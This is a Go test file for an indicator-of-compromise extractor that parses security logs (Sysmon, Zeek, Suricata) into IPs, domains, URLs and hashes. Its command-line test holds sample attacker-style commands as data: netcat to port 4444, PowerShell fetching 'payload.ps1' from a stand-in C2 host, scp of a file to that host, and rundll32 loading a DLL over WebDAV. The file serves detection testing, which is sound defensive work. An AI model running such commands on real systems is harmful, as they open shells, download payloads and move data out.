	return ioc.Hash(t, v)
}

func TestExtractLineKinds(t *testing.T) {
	tests := []struct {
		name      string
		line      string
		blank     bool
		offset    int    // LineError.Offset, when an error is expected
		errSubstr string // "" when no error is expected
	}{
		{name: "empty", line: "", blank: true},
		{name: "whitespace", line: " \t\r\n ", blank: true},
		{name: "truncated", line: `{"a":"b","c":`, offset: 13, errSubstr: "not JSON: unexpected end of JSON input at offset 13"},
		{name: "garbage", line: "\t1b32rüe9ope\tg24b", offset: 2, errSubstr: "not JSON: invalid character 'b' after top-level value at offset 2"},
		{name: "unquoted value", line: `{"timestamp":2017-01-30T16:12:26,"x":1}`, offset: 17, errSubstr: "not JSON: invalid character '-' after object key:value pair at offset 17"},
		{name: "doubled quotes", line: `{"timestamp":""2017"","x":1}`, offset: 15, errSubstr: "invalid character '2' after object key:value pair"},
		{name: "array", line: `[1,2]`, offset: -1, errSubstr: "not a JSON object: the line is a JSON array"},
		{name: "string", line: `"x"`, offset: -1, errSubstr: "not a JSON object: the line is a JSON string"},
		{name: "number", line: `42`, offset: -1, errSubstr: "not a JSON object"},
		{name: "two objects", line: `{}{}`, offset: 2, errSubstr: "not JSON: invalid character '{' after top-level value"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := NewExtractor(FormatAuto)
			got, err := ex.Extract([]byte(tt.line), nil)
			if len(got) != 0 {
				t.Errorf("observables from a line without events: %v", got)
			}
			if ex.LastBlank() != tt.blank {
				t.Errorf("LastBlank() = %v, want %v", ex.LastBlank(), tt.blank)
			}
			if ex.LastFormat() != "" {
				t.Errorf("LastFormat() = %q, want empty", ex.LastFormat())
			}
			if tt.errSubstr == "" {
				if err != nil {
					t.Fatalf("Extract: %v", err)
				}
				return
			}
			le, ok := errors.AsType[*LineError](err)
			if !ok || !errors.Is(err, ErrNotJSON) {
				t.Fatalf("error = %v, want a *LineError wrapping ErrNotJSON", err)
			}
			if !strings.Contains(err.Error(), tt.errSubstr) || le.Offset != tt.offset {
				t.Errorf("error = %q (offset %d), want it to contain %q (offset %d)", err, le.Offset, tt.errSubstr, tt.offset)
			}
		})
	}
}

// TestValuesDoNotAliasLine reuses the line buffer, as the hunt does, and checks that earlier
// observables keep their values.
func TestValuesDoNotAliasLine(t *testing.T) {
	input := []string{
		`{"_path":"dns","id.orig_h":"10.1.2.3","query":"fresh.example.org","answers":["198.51.100.77"]}`,
		`{"event_type":"http","src_ip":"10.9.8.7","http":{"hostname":"h.example.net","url":"/p?q=1"}}`,
		`{"EventID":1,"Channel":"x","Image":"c:\\a\\b.exe","Hashes":"SHA256=` + sha256Hex + `"}`,
		`{"anything":{"ip":"192.0.2.99","d":"zz.example.com"}}`,
	}
	ex := NewExtractor(FormatAuto)
	buf := make([]byte, 0, 512)
	var all []vigil.Observable
	var want []string
	for _, l := range input {
		buf = append(buf[:0], l...)
		n := len(all)
		var err error
		all, err = ex.Extract(buf, all)
		if err != nil {
			t.Fatal(err)
		}
		for _, ob := range all[n:] {
			want = append(want, strings.Clone(ob.Value))
		}
		for i := range buf {
			buf[i] = 'X'
		}
	}
	for i, ob := range all {
		if ob.Value != want[i] {
			t.Errorf("observable %d changed after the line buffer was reused: %q, want %q", i, ob.Value, want[i])
		}
	}
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in      string
		want    Format
		wantErr bool
	}{
		{"auto", FormatAuto, false},
		{"", FormatAuto, false},
		{" ZEEK ", FormatZeek, false},
		{"ecs", FormatECS, false},
		{"sysmon", FormatSysmon, false},
		{"suricata", FormatSuricata, false},
		{"osquery", FormatOsquery, false},
		{"generic", FormatGeneric, false},
		{"eve", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := ParseFormat(tt.in)
			if got != tt.want || (err != nil) != tt.wantErr {
				t.Fatalf("ParseFormat(%q) = %q, %v; want %q, error %v", tt.in, got, err, tt.want, tt.wantErr)
			}
			if err != nil && !strings.Contains(err.Error(), "auto, ecs, sysmon, zeek, suricata, osquery, generic") {
				t.Errorf("error %q does not list the valid formats", err)
			}
		})
	}
}

// TestCommandLineAddresses: issue 10 §4, a command line's arguments are scanned for the
// URLs, domains and addresses in them, however the command writes them (the lines a
// tester found missed), and file names and version numbers are not taken for domains.
func TestCommandLineAddresses(t *testing.T) {
	cmd := func(vs ...vigil.Observable) []vigil.Observable { return vs }
	ipc := func(v string) vigil.Observable { return o("CommandLine", ip4, v) }
	domc := func(v string) vigil.Observable { return o("CommandLine", dom, v) }
	tests := []struct {
		name, cmdline string
		want          []vigil.Observable
	}{
		{"UNC path to an address", `net use \\203.0.113.66\c$`, cmd(ipc("203.0.113.66"))},
		{"UNC path to a host", `net use \\bad-c2.example.net\c$`, cmd(domc("bad-c2.example.net"))},
		{"WebDAV UNC path", `rundll32 \\203.0.113.66@SSL\DavWWWRoot\x.dll,Start`, cmd(ipc("203.0.113.66"))},
		{"WebDAV UNC path with a port", `net use \\bad-c2.example.net@SSL@8443\DavWWWRoot`, cmd(domc("bad-c2.example.net"))},
		{"ssh to user@address", `ssh root@203.0.113.66`, cmd(ipc("203.0.113.66"))},
		{"ssh to user@host", `ssh admin@bad-c2.example.net`, cmd(domc("bad-c2.example.net"))},
		{"scp to user@host:path", `scp a.txt admin@bad-c2.example.net:/tmp/`, cmd(domc("bad-c2.example.net"))},
		{"netcat address and port", `nc 203.0.113.66 4444`, cmd(ipc("203.0.113.66"))},
		{"address:port", `nc 203.0.113.66:4444`, cmd(ipc("203.0.113.66"))},
		{"host:port", `nc bad-c2.example.net:4444`, cmd(domc("bad-c2.example.net"))},
		{"option=address", `x --server=203.0.113.66`, cmd(ipc("203.0.113.66"))},
		{"option=host", `x --server=bad-c2.example.net`, cmd(domc("bad-c2.example.net"))},
		{"option=URL", `x /url=http://bad-c2.example.net/a?b=c`,
			cmd(o("CommandLine", url, "http://bad-c2.example.net/a?b=c"), domc("bad-c2.example.net"))},
		{"URL without a scheme", `powershell iwr bad-c2.example.net/payload.ps1`, cmd(domc("bad-c2.example.net"))},
		{"IPv6 address", `ping 2001:db8::5`, cmd(o("CommandLine", ip6, "2001:db8::5"))},
		{"file names, paths and versions are not domains",
			`C:\Windows\conhost.exe 0xffffffff -ForceV1 --version=1.2.3 \\?\C:\x\a.b /log=out.txt a.b`, nil},
		{"base64 padding is not an option value", `powershell -enc SQBFAFgA==`, nil},
	}
	ex := NewExtractor(FormatSysmon)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			line, err := json.Marshal(map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "CommandLine": tt.cmdline})
			if err != nil {
				t.Fatal(err)
			}
			got, err := ex.Extract(line, nil)
			if err != nil {
				t.Fatalf("Extract: %v", err)
			}
			if g, w := lines(got), lines(tt.want); g != w {
				t.Errorf("%s\nobservables:\n%s\nwant:\n%s", tt.cmdline, g, w)
			}
		})
	}
}
